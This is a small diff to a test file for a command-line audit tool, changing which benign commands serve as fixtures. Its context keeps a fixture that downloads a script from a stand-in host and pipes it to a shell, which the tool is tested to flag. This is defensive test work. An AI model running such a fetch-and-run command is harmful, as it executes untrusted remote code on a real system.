@@ -172,7 +172,7 @@ describe('awsher audit finds', () => {
   });
 
   it.each<[what: string, line: (home: string) => string, expected: RegExp[]]>([
-    ['nothing odd in a program of root’s', () => '/bin/true --json', []],
+    ['nothing odd in a program of root’s', () => '/bin/cat /dev/null', []],
     [
       'a download that runs',
       () => '/bin/sh -c "curl -s https://x.example/give | sh"',
@@ -189,7 +189,7 @@ describe('awsher audit finds', () => {
     ],
     [
       'a secret in the line',
-      () => '/bin/true --password=hunter2-secret',
+      () => '/bin/cat --password=hunter2-secret',
       [/^high .*secret in its command line/],
     ],
     [
